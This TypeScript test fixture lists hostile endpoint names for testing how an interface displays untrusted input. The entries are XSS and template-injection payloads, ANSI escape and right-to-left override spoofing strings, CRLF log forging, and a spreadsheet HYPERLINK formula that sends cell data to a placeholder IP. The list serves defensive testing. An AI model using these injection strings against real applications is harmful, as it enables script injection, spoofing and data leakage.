/** What hostile endpoints put into their names: each must be shown, and none may act or mislead. */
export const hostileNames = [
  '<img src=x onerror=alert(document.domain)>',
  '"><script>alert(1)</script>',
  '\u001b[2J\u001b[31mall is well\u001b[0m\u0007',
  'web-01\u202egnp.exe',
  '\u2066dc-01\u2069 (trusted by IT)\u200b\u200b',
  '=HYPERLINK("http://203.0.113.9/?x="&A1,"open")',
  'srv\u0000-07\r\nok: verified',
  '\u0645\u0631\u062d\u0628\u0627-\u05e9\u05dc\u05d5\u05dd-01',
  `${'A'.repeat(300)}`,
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  'z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aa\u0300\u0301\u0302\u0303\u0304\u0305\u0306lgo',
] as const
